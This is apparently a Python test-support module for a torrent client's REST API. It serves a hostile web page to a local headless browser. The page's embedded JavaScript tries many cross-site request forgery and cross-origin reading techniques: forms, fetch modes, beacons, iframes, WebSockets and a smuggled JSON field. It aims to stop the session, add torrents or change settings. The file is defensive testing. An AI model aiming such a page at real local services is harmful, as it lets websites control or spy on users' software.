"""The site of somebody else: it serves a page that attacks a server, to a browser that opens it."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from tests.support.chromium import BROWSER, FLAGS
from tests.support.httpserver import HttpServer, QuietHandler

PATIENCE_S = 90.0

# All that a page can do to the REST interface. Each attempt ends with what the page has learned: "blocked", "sent"
# (nobody tells whether it was listened to), or "read: ..." with what it should never see.
REST_PAGE = """<!doctype html><meta charset=utf-8><title>kittens</title><body><script>
const target = %(target)s, one = target + %(one)s, token = %(token)s, told = {};
const body = JSON.stringify({labels: ["evil"]}), settings = JSON.stringify({limits: {up_bytes_per_s: 1}});
const later = ms => new Promise(done => setTimeout(done, ms));

async function tried(name, attempt) {
  try { told[name] = await Promise.race([attempt(), later(8000).then(() => "blocked")]); }
  catch { told[name] = "blocked"; }
}

async function fetched(url, options) {
  const answer = await fetch(url, options);
  return answer.type == "opaque" || answer.type == "opaqueredirect" ? "sent" : "read: " + await answer.text();
}

function form(url, encoding, fields) {
  const frame = document.createElement("iframe"), it = document.createElement("form");
  frame.name = "frame" + Math.random();
  document.body.append(frame, it);
  Object.assign(it, {method: "post", action: url, enctype: encoding, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, {type: "hidden", name, value});
    it.append(input);
  }
  return new Promise(done => {
    frame.onload = () => { if (frame.contentDocument?.location.href != "about:blank") done(seen(frame)); };
    it.submit();
  });
}

function seen(frame) {
  try { return frame.contentDocument ? "read: " + frame.contentDocument.documentElement.outerHTML : "sent"; }
  catch { return "sent"; }
}

function loaded(kind, attributes) {
  const it = document.createElement(kind);
  return new Promise((done, failed) => {
    it.onload = () => done(kind == "iframe" ? seen(it) : kind == "script" ? "read: it ran" : "sent");
    it.onerror = failed;
    Object.assign(it, attributes);
    document.body.append(it);
  });
}

async function attack() {
  const attempts = [];
  const begin = (name, attempt) => attempts.push(tried(name, attempt));
  for (const encoding of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
    begin("form " + encoding + " stop", () => form(one + "/stop", encoding, {a: "b"}));
    begin("form " + encoding + " add", () => form(
      target + "/v1/torrents", encoding, {'{"source": "/a.torrent", "a': '": 1}'}));
    begin("form " + encoding + " end", () => form(target + "/v1/session/stop", encoding, {}));
  }
  for (const mode of ["cors", "no-cors", "same-origin"]) for (const credentials of ["include", "omit"]) {
    const how = {mode, credentials}, name = mode + " " + credentials;
    begin("get " + name, () => fetched(target + "/v1/torrents", how));
    begin("health " + name, () => fetched(target + "/v1/health/ready", how));
    begin("post " + name, () => fetched(one + "/stop", {...how, method: "POST"}));
    begin("post text " + name, () => fetched(target + "/v1/torrents", {...how, method: "POST", body}));
    begin("post json " + name, () => fetched(one + "/stop", {
      ...how, method: "POST", body: "{}", headers: {"Content-Type": "application/json"}}));
    begin("delete " + name, () => fetched(one, {...how, method: "DELETE"}));
    begin("patch with the token " + name, () => fetched(target + "/v1/settings", {
      ...how, method: "PATCH", body: settings,
      headers: {"Content-Type": "application/json", Authorization: "Bearer " + token}}));
    begin("post with the token " + name, () => fetched(one + "/stop", {
      ...how, method: "POST", headers: {Authorization: "Bearer " + token}}));
  }
  begin("image", () => loaded("img", {src: target + "/v1/torrents"}));
  begin("script", () => loaded("script", {src: target + "/v1/torrents"}));
  begin("script of health", () => loaded("script", {src: target + "/v1/health/live"}));
  begin("style", () => loaded("link", {rel: "stylesheet", href: target + "/v1/torrents"}));
  begin("iframe", () => loaded("iframe", {src: target + "/v1/torrents"}));
  begin("iframe of health", () => loaded("iframe", {src: target + "/v1/health/live"}));
  begin("object", () => loaded("object", {data: target + "/v1/session"}));
  begin("sandboxed iframe", () => loaded("iframe", {
    sandbox: "allow-scripts allow-forms",
    srcdoc: `<form method=post action="${one}/stop"></form><script>document.forms[0].submit()<\\/script>`}));
  begin("events", () => new Promise((done, failed) => {
    const events = new EventSource(target + "/v1/events", {withCredentials: true});
    events.onopen = events.onmessage = () => done("read: events");
    events.onerror = failed;
  }));
  begin("web socket", () => new Promise((done, failed) => {
    const socket = new WebSocket(target.replace("http", "ws") + "/v1/events");
    socket.onopen = () => done("read: a socket");
    socket.onerror = failed;
  }));
  begin("beacon", async () => navigator.sendBeacon(one + "/stop", body) ? "sent" : "blocked");
  begin("beacon of json", async () => {
    navigator.sendBeacon(one + "/stop", new Blob([body], {type: "application/json"}));
    return "sent";
  });
  begin("request in the background", () => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.open("POST", one + "/stop");
    request.withCredentials = true;
    request.onload = () => done("read: " + request.responseText);
    request.onerror = failed;
    request.send(body);
  }));
  await Promise.all(attempts);
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
}
attack();
</script>"""


class HostileSite(HttpServer):
    """Serves a page at every name that leads here, with `values` in place of each %(name)s.

    `told` is what the page has posted at the end to `/told`, as JSON: what its last visitor's browser let it learn.
    """

    def __init__(self, page: str, **values: str) -> None:
        for name, value in values.items():
            page = page.replace(f"%({name})s", json.dumps(value).replace("</", "<\\/"))
        self.told: Any = None
        self._is_done = threading.Event()
        site = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                self.answer(page.encode(), headers={"Content-Type": "text/html; charset=utf-8"})

            def do_POST(self) -> None:
                site.told = json.loads(self.body())
                self.answer()
                site._is_done.set()

        super().__init__(Handler)

    def visited(self, host: str, folder: Path) -> Any:
        """What the page has learned when a browser has opened it at `http://HOST:PORT/`."""
        with browser(f"http://{host}:{self.port}/", folder):
            assert self._is_done.wait(PATIENCE_S), (folder / "browser.log").read_text()
        self._is_done.clear()
        return self.told


@contextmanager
def browser(url: str, folder: Path) -> Iterator[None]:
    """A browser of its own, with its files in `folder`; every name of example and test leads to this machine."""
    program = shutil.which(BROWSER)
    assert program is not None
    words = [
        program, *FLAGS, f"--user-data-dir={folder / 'profile'}", "--host-resolver-rules=MAP *.example 127.0.0.1", url,
    ]
    with open(folder / "browser.log", "wb") as log, \
            subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True,
                             env={**os.environ, "HOME": str(folder)}) as process:
        try:
            yield
        finally:
            os.killpg(process.pid, signal.SIGKILL)
